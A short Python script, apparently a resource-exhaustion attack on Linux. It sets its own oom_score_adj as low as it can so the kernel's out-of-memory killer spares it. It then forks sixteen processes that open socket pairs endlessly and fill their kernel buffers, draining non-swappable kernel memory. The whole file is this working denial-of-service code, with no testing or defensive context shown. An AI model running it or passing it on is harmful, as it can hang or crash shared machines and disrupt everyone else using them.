# Takes back that the kernel should kill it first, then takes the kernel's memory.
import contextlib
import os
import socket
import time

for score in range(0, 1000, 50):
    with contextlib.suppress(OSError), open("/proc/self/oom_score_adj", "w") as file:
        file.write(str(score))
        break
for _ in range(16):
    if os.fork() == 0:
        held = []
        with contextlib.suppress(OSError):
            while True:
                pair = socket.socketpair()
                held.append(pair)
                for end in pair:
                    end.setblocking(False)
                    with contextlib.suppress(BlockingIOError):
                        while True:
                            end.send(b"x" * 4096)
        time.sleep(60)
time.sleep(60)
